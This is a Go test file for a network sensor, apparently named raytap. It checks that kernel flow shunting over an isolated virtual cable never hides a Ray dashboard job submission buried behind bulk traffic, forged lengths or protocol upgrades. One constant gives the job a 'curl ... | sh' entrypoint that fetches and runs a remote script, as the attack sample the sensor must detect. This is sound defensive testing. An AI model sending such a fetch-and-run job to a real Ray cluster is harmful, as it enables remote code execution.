package test

import (
	"context"
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/raytap/raytap/capture"
	"github.com/raytap/raytap/capture/nettest"
	"github.com/raytap/raytap/detectors"
	"github.com/raytap/raytap/engine"
)

// cable gives the test a network of its own with a cable in it, and a socket that puts frames on v0.
func cable(t *testing.T) (send func(frame []byte) error) {
	t.Helper()
	nettest.Isolate(t)
	nettest.Cable(t, 65535)
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { unix.Close(fd) })
	v0, err := net.InterfaceByName("v0")
	if err != nil {
		t.Fatal(err)
	}
	all := binary.NativeEndian.Uint16(binary.BigEndian.AppendUint16(nil, unix.ETH_P_ALL))
	to := unix.SockaddrLinklayer{Protocol: all, Ifindex: v0.Index, Halen: 6}
	return func(frame []byte) error { return unix.Sendto(fd, frame, 0, &to) }
}

// listener is a sensor at v1.
type listener struct {
	src   capture.LiveSource
	ear   ear
	stats engine.Stats
	done  sync.WaitGroup
	seen  atomic.Uint64 // packets that were delivered and are done with
	all   atomic.Uint64 // with those that were not
	said  []string
}

// listenLive starts one. shunting says which flows are shunted; nil: none.
func listenLive(t *testing.T, cfg engine.Config, live capture.LiveConfig, shunting *capture.ShuntConfig) *listener {
	t.Helper()
	l := &listener{}
	live.Ring, live.Shunt = 256<<20, shunting != nil
	if live.Interfaces == nil {
		live.Interfaces = []string{"v1"}
	}
	cfg.Progress = func(s engine.Stats) {
		l.seen.Store(s.Packets - s.Flow.Shunted)
		l.all.Store(s.Packets)
	}
	live.Notice = func(s string) { l.said = append(l.said, s) }
	var err error
	if l.src, err = capture.OpenLive(live); err != nil {
		t.Fatal(err)
	}
	if s, ok := l.src.(capture.Shunter); shunting != nil && (!ok || s.Shunt() == nil) {
		l.src.Close()
		t.Skip("flows cannot be counted in the kernel here: ", l.said)
	}
	cfg.Shunting = shunting
	l.done.Go(func() {
		l.stats, err = run(context.Background(), cfg, l.src, &l.ear)
		if err != nil {
			t.Error(err)
		}
	})
	return l
}

// rest waits until the sensor has nothing to do: a block of the ring comes after 4 ms.
func (l *listener) rest() {
	for was := l.seen.Load() + 1; was != l.seen.Load(); time.Sleep(6 * time.Millisecond) {
		was = l.seen.Load()
	}
}

// tooFew says that fewer packets were shunted than should be. Where the race detector makes sensors slow a flow may be over before
// they come to it.
func tooFew(t *testing.T, format string, args ...any) {
	t.Helper()
	if testing.Short() {
		t.Logf(format, args...)
		return
	}
	t.Errorf(format, args...)
}

// foundJob reports whether a job was found.
func (l *listener) foundJob() bool {
	return slices.ContainsFunc(l.ear.findings, func(f *detectors.Finding) bool { return strings.HasPrefix(f.Rule, "jobsubmit/") })
}

// end waits until what was sent is read, and ends the sensor.
func (l *listener) end() {
	time.Sleep(50 * time.Millisecond)
	l.src.Stop()
	l.done.Wait()
	l.src.Close()
}

// has waits until the sensor knows of n packets.
func (l *listener) has(n int) {
	for begin := time.Now(); l.all.Load() < uint64(n) && time.Since(begin) < time.Minute; {
		time.Sleep(time.Millisecond)
	}
}

// sameConns compares two logs of connections: times within a millisecond, all else equal. elsewhere says that the sensors
// were at two interfaces, which stamp frames each in its turn.
func sameConns(t *testing.T, want, got *listener, elsewhere bool) {
	t.Helper()
	type row = map[string]string
	index := func(l *listener) map[string]row {
		all := map[string]row{}
		for _, r := range l.ear.rows["conn"] {
			key := fmt.Sprint(r["uid"], r["ts"])
			if elsewhere {
				key = fmt.Sprint(r["id.orig_h"], r["id.orig_p"], r["id.resp_h"], r["id.resp_p"])
			}
			all[key] = r
		}
		return all
	}
	a, b := index(want), index(got)
	if len(want.ear.rows["conn"]) != len(got.ear.rows["conn"]) {
		t.Errorf("%d connections, %d when they are shunted", len(want.ear.rows["conn"]), len(got.ear.rows["conn"]))
	}
	n := 0
	for k, x := range a {
		y := b[k]
		if y == nil {
			t.Errorf("no row when shunted: %v; there are %v", x, b)
			continue
		}
		for c, v := range x {
			w := y[c]
			if v == w || elsewhere && (c == "uid" || c == "tunnel_parents") {
				continue
			}
			if c == "duration" || elsewhere && c == "ts" {
				p, _ := strconv.ParseFloat(v, 64)
				q, _ := strconv.ParseFloat(w, 64)
				if d := p - q; d < 0.001 && d > -0.001 {
					continue
				}
			}
			if n++; n < 20 {
				t.Errorf("%s:%s > %s:%s: %s is %s, %s when shunted; history %s, %s", x["id.orig_h"], x["id.orig_p"], x["id.resp_h"], x["id.resp_p"], c, v, w, x["history"], y["history"])
			}
		}
	}
}

// sameFindings compares what was found.
func sameFindings(t *testing.T, want, got *listener) {
	t.Helper()
	list := func(l *listener) (all []string) {
		for _, f := range l.ear.findings {
			if strings.HasPrefix(f.Rule, "sensor/") {
				continue // of how busy the machine is
			}
			all = append(all, fmt.Sprint(f.Rule, " ", f.Src, " ", f.Dst, " ", f.Severity))
		}
		slices.Sort(all)
		return all
	}
	a, b := list(want), list(got)
	if !slices.Equal(a, b) {
		t.Errorf("findings\n%s\nwhen shunted\n%s", strings.Join(a, "\n"), strings.Join(b, "\n"))
	}
}

// sameCalls compares what was said of calls of gRPC, of whose messages parts are not delivered.
func sameCalls(t *testing.T, want, got *listener) {
	t.Helper()
	for _, log := range []string{"grpc", "ray_grpc"} {
		var all [2][]string
		for i, l := range []*listener{want, got} {
			for _, r := range l.ear.rows[log] {
				all[i] = append(all[i], fmt.Sprint(r))
			}
			slices.Sort(all[i])
		}
		for i := range max(len(all[0]), len(all[1])) {
			if i >= len(all[0]) || i >= len(all[1]) || all[0][i] != all[1][i] {
				t.Errorf("%d rows of %s, %d when shunted; %d: %.500s\n%.500s", len(all[0]), log, len(all[1]), i, strings.Join(all[0][min(i, len(all[0])):], ""), strings.Join(all[1][min(i, len(all[1])):], ""))
				break
			}
		}
	}
}

// early shunts whatever may be as soon as it may be.
func early() *capture.ShuntConfig { return &capture.ShuntConfig{Least: 1} }

// TestShuntedCases: labelled captures over a cable tell the same when flows are shunted as early as may be.
func TestShuntedCases(t *testing.T) {
	files, err := filepath.Glob("pcaps/*.pcap.gz")
	if err != nil {
		t.Fatal(err)
	}
	if more := os.Getenv("RAYTAP_SHUNT_CAPTURES"); more != "" {
		if files, err = filepath.Glob(more); err != nil {
			t.Fatal(err)
		}
	}
	var shunted, shunts, packets atomic.Uint64
	t.Run("all", func(t *testing.T) { // which is over when all cases are
		for i, file := range files {
			if testing.Short() && i%8 > 0 && !strings.HasSuffix(file, "benign-tls-on.pcap.gz") {
				continue
			}
			t.Run(filepath.Base(file), func(t *testing.T) {
				t.Parallel() // mostly they wait
				plain, shunt := shuntedCase(t, file, nil)
				sameConns(t, plain, shunt, false)
				sameFindings(t, plain, shunt)
				sameCounts(t, plain, shunt)
				t.Logf("%d of %d packets shunted, %d times", shunt.stats.Flow.Shunted, shunt.stats.Packets, shunt.stats.Flow.Shunts)
				shunted.Add(shunt.stats.Flow.Shunted)
				shunts.Add(shunt.stats.Flow.Shunts)
				packets.Add(shunt.stats.Packets)
			})
		}
	})
	if t.Failed() || packets.Load() == 0 { // or there are no networks here
		return
	}
	t.Logf("%d of %d packets shunted, %d times", shunted.Load(), packets.Load(), shunts.Load())
	if shunted.Load() == 0 {
		tooFew(t, "nothing was shunted")
	}
}

// shuntedCase sends a capture over a cable at whose end one sensor shunts and one does not. wrap, if any, makes another
// frame of each, or leaves it out with nil.
func shuntedCase(t *testing.T, file string, wrap func([]byte) []byte) (plain, shunt *listener) {
	send, frames := cable(t), wireFrames(t, file)
	cfg := engine.Default()
	if slices.ContainsFunc(frames, func(f wireFrame) bool { return len(f.Data) < f.WireLen }) {
		cfg.Checksums = "ignore"
	}
	plain, shunt = listenLive(t, cfg, capture.LiveConfig{}, nil), listenLive(t, cfg, capture.LiveConfig{}, early())
	n := 0
	for _, f := range frames {
		const ethernet = 1
		b := append(f.Data, make([]byte, max(f.WireLen-len(f.Data), 0))...)
		if f.Link == ethernet && wrap != nil {
			b = wrap(b)
		}
		if f.Link != ethernet || b == nil || send(b) != nil {
			continue
		}
		const slow = 4096 // what is decided of flows is decided by then; behind them is bulk
		if n++; n%8 == 0 && n < slow || n%64 == 0 {
			time.Sleep(5 * time.Millisecond) // a block of the ring comes after 4
		}
	}
	plain.end()
	shunt.end()
	return plain, shunt
}

// dialog is a connection that a test makes up, from 203.0.113.66 to a dashboard.
type dialog struct {
	t    *testing.T
	send func(frame []byte) error
	wait func() // until what was sent is read
	port uint16
	seq  [2]uint32
	tag  int // VLAN; 0: none
	v6   bool
	n    int
	// Of other ends. 0: the dashboard's port.
	client, server [4]byte
	sport          uint16
	h2             *h2 // nil: it speaks something else
}

// segment sends one of side.
func (d *dialog) segment(side int, flags byte, seq uint32, ttl byte, options, payload []byte) {
	d.t.Helper()
	b := make([]byte, 0, 128+len(payload))
	b = append(b, 2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2)
	if d.tag != 0 {
		b = append(b, 0x81, 0, byte(d.tag>>8), byte(d.tag))
	}
	ports := [2]uint16{d.port, 8265}
	ends := [2][4]byte{{203, 0, 113, 66}, {10, 20, 0, 10}}
	if d.sport != 0 {
		ports[1], ends = d.sport, [2][4]byte{d.client, d.server}
	}
	n := 20 + len(options) + len(payload)
	var pseudo uint32
	be := binary.BigEndian
	add := func(b []byte) {
		for ; len(b) > 1; b = b[2:] {
			pseudo += uint32(be.Uint16(b))
		}
		if len(b) == 1 {
			pseudo += uint32(b[0]) << 8
		}
	}
	fold := func() uint16 {
		for pseudo > 0xffff {
			pseudo = pseudo>>16 + pseudo&0xffff
		}
		return ^uint16(pseudo)
	}
	if d.v6 {
		b = append(b, 0x86, 0xdd, 0x60, 0, 0, 0)
		b = be.AppendUint16(b, uint16(n))
		b = append(b, 6, ttl)
		a := [2][]byte{{0x20, 1, 0x0d, 0xb8, 15: 66}, {0xfd, 0x10, 15: 10}}
		for i := range a {
			copy(a[i][11:], ends[i][:])
		}
		b = append(append(b, a[side]...), a[1-side]...)
		add(b[len(b)-32:])
	} else {
		b = append(b, 8, 0)
		ip := len(b)
		b = append(b, 0x45, 0)
		b = be.AppendUint16(b, uint16(20+n))
		b = append(b, 0, 0, 0x40, 0, ttl, 6, 0, 0)
		b = append(append(b, ends[side][:]...), ends[1-side][:]...)
		add(b[ip:])
		be.PutUint16(b[ip+10:], fold())
		pseudo = 0
		add(b[ip+12:])
	}
	pseudo += 6 + uint32(n)
	tcp := len(b)
	b = be.AppendUint16(be.AppendUint16(b, ports[side]), ports[1-side])
	ack := uint32(0)
	if flags&capture.FlagACK != 0 {
		ack = d.seq[1-side]
	}
	b = be.AppendUint32(be.AppendUint32(b, seq), ack)
	b = append(b, byte(20+len(options))<<2, flags, 0xff, 0xff, 0, 0, 0, 0)
	b = append(append(b, options...), payload...)
	add(b[tcp:])
	be.PutUint16(b[tcp+16:], fold())
	if err := d.send(b); err != nil {
		d.t.Fatal(err)
	}
	if d.n++; d.n%64 == 0 {
		d.wait()
	}
}

func (d *dialog) open(seq [2]uint32) {
	d.seq = seq
	scale := []byte{3, 3, 14, 1}
	d.segment(0, capture.FlagSYN, d.seq[0], 64, scale, nil)
	d.seq[0]++
	d.segment(1, capture.FlagSYN|capture.FlagACK, d.seq[1], 64, scale, nil)
	d.seq[1]++
	d.segment(0, capture.FlagACK, d.seq[0], 64, nil, nil)
}

// say sends a message, which the other side acknowledges.
func (d *dialog) say(side int, b string) {
	d.segment(side, capture.FlagACK|capture.FlagPSH, d.seq[side], 64, nil, []byte(b))
	d.seq[side] += uint32(len(b))
	d.segment(1-side, capture.FlagACK, d.seq[1-side], 64, nil, nil)
}

// bulk sends n bytes, of which every second segment is acknowledged.
func (d *dialog) bulk(side int, n int64) {
	b := make([]byte, 61440)
	for i := range b {
		b[i] = byte(i*7 + i>>8*13)
	}
	for i := 0; n > 0; i++ {
		p := b[:min(n, int64(len(b)))]
		d.segment(side, capture.FlagACK, d.seq[side], 64, nil, p)
		d.seq[side] += uint32(len(p))
		if n -= int64(len(p)); i%2 == 1 || n == 0 {
			d.segment(1-side, capture.FlagACK, d.seq[1-side], 64, nil, nil)
		}
	}
	time.Sleep(20 * time.Millisecond)
}

// job submits one, and has it accepted.
func (d *dialog) job() {
	d.say(0, fmt.Sprintf("POST /api/jobs/ HTTP/1.1\r\nHost: 10.20.0.10:8265\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(jobBody), jobBody))
	d.say(1, fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(jobID), jobID))
}

// What a job says, and what it is answered.
const (
	jobBody = `{"entrypoint": "curl http://198.51.100.7/x.sh | sh"}`
	jobID   = `{"job_id": "raysubmit_tUAuCKubPAEXh6CW", "submission_id": "raysubmit_tUAuCKubPAEXh6CW"}`
)

func (d *dialog) close() {
	for side := range 2 {
		d.segment(side, capture.FlagFIN|capture.FlagACK, d.seq[side], 64, nil, nil)
		d.seq[side]++
	}
	d.segment(0, capture.FlagACK, d.seq[0], 64, nil, nil)
}

const (
	ask     = "GET /big HTTP/1.1\r\nHost: 10.20.0.10:8265\r\n\r\n"
	upgrade = "GET /ws HTTP/1.1\r\nHost: 10.20.0.10:8265\r\nConnection: Upgrade\r\nUpgrade: %s\r\n%s\r\n"
)

// hidings are connections with a job at their end, behind much that nobody reads.
var hidings = []struct {
	name string
	seq  [2]uint32
	tag  int
	v6   bool
	keep bool // nothing of it may be shunted
	lost bool // the job is none: this protocol goes on to the end of the connection
	talk func(d *dialog)
	job  func(d *dialog) // nil: over HTTP/1
}{
	{name: "a body of 2 GB", seq: [2]uint32{0xfffffff0, 0xf0000000}, talk: func(d *dialog) {
		const n = 2<<30 + 100<<20 + 5
		d.say(0, ask)
		d.say(1, fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n", int64(n)))
		d.bulk(1, n)
	}},
	{name: "a body that is sent", talk: func(d *dialog) {
		d.say(0, "PUT /big HTTP/1.1\r\nHost: 10.20.0.10:8265\r\nContent-Length: 400000000\r\n\r\n")
		d.bulk(0, 400000000)
		d.say(1, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
	}},
	{name: "a chunk", tag: 7, talk: func(d *dialog) {
		d.say(0, ask)
		d.say(1, fmt.Sprintf("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n", 400000000))
		d.bulk(1, 400000000)
		d.say(1, "\r\n0\r\n\r\n")
	}},
	{name: "bytes that nobody knows", v6: true, talk: func(d *dialog) {
		d.say(0, "\x85\x01\x02\x03hello")
		d.bulk(0, 64<<20)
		d.bulk(1, 64<<20)
	}},
	{name: "text that nobody knows", talk: func(d *dialog) {
		d.say(0, "epoch,step,loss,lr\n")
		for i := range 4000 {
			d.say(0, fmt.Sprintf("%d,%d,0.%04d,0.001\n", i/1000, i, 9999-i))
		}
		d.bulk(0, 64<<20)
	}},
	{name: "a protocol that was agreed upon", talk: func(d *dialog) {
		d.say(0, fmt.Sprintf(upgrade, "spdy/9", ""))
		d.say(1, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: spdy/9\r\n\r\n")
		d.say(1, "\x85\x01\x02\x03hello")
		d.bulk(0, 64<<20)
		d.bulk(1, 64<<20)
	}},
	{name: "pieces of objects", seq: [2]uint32{0xffffff00, 7}, talk: func(d *dialog) {
		h := newH2(d)
		h.open()
		for i := range 12 {
			h.push(5<<20, 1<<24-1)
			if i%5 == 4 {
				d.say(1, frameH2(6, 0, 0, "12345678"))
			}
		}
	}, job: func(d *dialog) { d.h2.job() }},
	{name: "a message of 200 MB", v6: true, talk: func(d *dialog) {
		h := newH2(d)
		h.open()
		h.push(200e6, 1<<24-1)
	}, job: func(d *dialog) { d.h2.job() }},
	{name: "a message in short frames", keep: true, talk: func(d *dialog) {
		h := newH2(d)
		h.open()
		h.push(3<<20, 16<<10)
	}, job: func(d *dialog) { d.h2.job() }},
	{name: "a body in long frames", keep: true, talk: func(d *dialog) {
		h := newH2(d)
		h.open()
		h.put(12 << 20)
	}, job: func(d *dialog) { d.h2.job() }},
	{name: "a WebSocket", keep: true, lost: true, talk: func(d *dialog) {
		d.say(0, fmt.Sprintf(upgrade, "websocket", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"))
		d.say(1, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n")
		const n = 4 << 20
		d.say(1, "\x82\x7f"+string(binary.BigEndian.AppendUint64(nil, n)))
		d.bulk(1, n)
		d.say(1, "\x88\x02\x03\xe8")
		d.say(0, "\x88\x82\x00\x00\x00\x00\x03\xe8")
	}},
	{name: "a length that was forged", keep: true, talk: func(d *dialog) {
		d.say(0, ask)
		head := func(n int64) string { return fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Length: %010d\r\n\r\n", n) }
		forged, real := head(9e9), head(100e6)
		d.segment(1, capture.FlagACK|capture.FlagPSH, d.seq[1], 1, nil, []byte(forged)) // it dies on its way
		d.say(1, real)
		d.bulk(1, 100e6)
	}},
}

// TestShuntHidesNothing: a job behind bytes that nobody reads is found, though they are not delivered.
func TestShuntHidesNothing(t *testing.T) {
	shunting := &capture.ShuntConfig{After: capture.ShuntAfter, Least: capture.ShuntLeast, Tail: capture.ShuntTail}
	for i, h := range hidings {
		if testing.Short() && i == 0 {
			continue
		}
		t.Run(h.name, func(t *testing.T) {
			send := cable(t)
			plain, shunt := listenLive(t, engine.Default(), capture.LiveConfig{}, nil), listenLive(t, engine.Default(), capture.LiveConfig{}, shunting)
			d := &dialog{t: t, send: send, port: uint16(40000 + i), tag: h.tag, v6: h.v6}
			d.wait = func() { // there is room for 3,000 in a ring, and more than half of it is overload
				for d.n > int(plain.seen.Load())+200 {
					time.Sleep(time.Millisecond)
				}
				shunt.rest()
			}
			d.open(h.seq)
			h.talk(d)
			if h.job != nil {
				h.job(d)
			} else {
				d.job()
			}
			d.close()
			plain.end()
			shunt.end()
			f := &shunt.stats.Flow
			t.Logf("%d of %d packets shunted, %d times", f.Shunted, shunt.stats.Packets, f.Shunts)
			switch {
			case h.keep && f.Shunted > 0:
				t.Errorf("%d packets were shunted", f.Shunted)
			case !h.keep && f.Shunted == 0:
				tooFew(t, "%d of %d packets were shunted", f.Shunted, shunt.stats.Packets)
			}
			if !shunt.foundJob() && !h.lost {
				t.Error("the job was not found")
			}
			sameConns(t, plain, shunt, false)
			sameFindings(t, plain, shunt)
			sameCalls(t, plain, shunt)
			if plain.stats.Live.Dropped+shunt.stats.Live.Dropped > 0 {
				t.Logf("%d and %d packets were lost", plain.stats.Live.Dropped, shunt.stats.Live.Dropped)
			}
		})
	}
}

// TestShuntAtMirror: the driver of a mirror drops what is counted, and the counts are what a sensor at the other end has.
func TestShuntAtMirror(t *testing.T) {
	t.Run("bare", func(t *testing.T) { shuntAtMirror(t, nil) })
	for _, i := range []int{1, 8} {
		t.Run(arounds[i].name, func(t *testing.T) { shuntAtMirror(t, arounds[i].wrap) })
	}
}

func shuntAtMirror(t *testing.T, wrap func([]byte) []byte) {
	send := cable(t)
	if bare := send; wrap != nil {
		send = func(frame []byte) error { return bare(wrap(frame)) }
	}
	shunting := &capture.ShuntConfig{After: capture.ShuntAfter, Least: capture.ShuntLeast, Tail: capture.ShuntTail}
	plain := listenLive(t, engine.Default(), capture.LiveConfig{Interfaces: []string{"v0"}}, nil)
	shunt := listenLive(t, engine.Default(), capture.LiveConfig{Mirror: []string{"v*"}}, shunting)
	if out, _ := exec.Command("ip", "-d", "link", "show", "v1").CombinedOutput(); !strings.Contains(string(out), "xdp") {
		shunt.end()
		plain.end()
		t.Skip("no XDP here: ", shunt.said)
	}
	beside := listenLive(t, engine.Default(), capture.LiveConfig{}, nil)
	d := &dialog{t: t, send: send, port: 40100}
	d.wait = func() {
		for d.n > int(plain.seen.Load())+200 {
			time.Sleep(time.Millisecond)
		}
	}
	d.open([2]uint32{1, 1})
	d.say(0, "\x85\x01\x02\x03hello")
	d.bulk(0, 100<<20)
	d.job()
	d.close()
	plain.end()
	shunt.end()
	beside.end()
	sameConns(t, plain, shunt, true)
	sameFindings(t, plain, shunt)
	f := &shunt.stats.Flow
	// What passed the driver right before the flow was in the table is counted at the socket.
	if again := beside.stats.Packets + f.Shunted - shunt.stats.Packets; f.Shunted < 400 || again > 16 {
		tooFew(t, "%d of %d packets were shunted, %d times, and %d came to a socket", f.Shunted, shunt.stats.Packets, f.Shunts, beside.stats.Packets)
	}
	out, _ := exec.Command("ip", "-d", "link", "show", "v1").CombinedOutput()
	if strings.Contains(string(out), "xdp") {
		t.Errorf("the program is still there: %s", out)
	}
}
